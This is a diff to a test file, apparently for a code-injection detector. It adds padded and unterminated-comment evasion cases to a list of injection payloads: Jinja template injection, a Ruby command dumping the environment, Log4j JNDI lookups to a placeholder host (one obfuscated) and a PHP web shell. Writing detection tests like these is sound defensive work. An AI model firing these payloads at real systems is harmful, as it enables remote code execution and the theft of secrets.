@@ -19,6 +19,11 @@ testCases('code', {
     ['a statement of Jinja', "{% include 'admin/base.html' %}"],
     ['a command of Ruby', '#{ %x|env| }'],
     ['in the middle of an address of mail', "\"{{['id']|filter('system')}}\"@example.com"],
+    [
+      'behind more openings than are judged to the end',
+      `a name of 25 characters   ${'${ '.repeat(40)}{{ {'a': 1}.__class__ }}`,
+    ],
+    ['behind comments without end', `${'a;b/*('.repeat(40)};phpinfo();`],
     ['a lookup of Log4j', '${jndi:ldap://203.0.113.9/a}'],
     ['hidden in lookups', '${${lower:j}${::-n}${env:X:-d}i:rmi://203.0.113.9/a}'],
     ['PHP', '<?php system($_GET["c"]); ?>'],
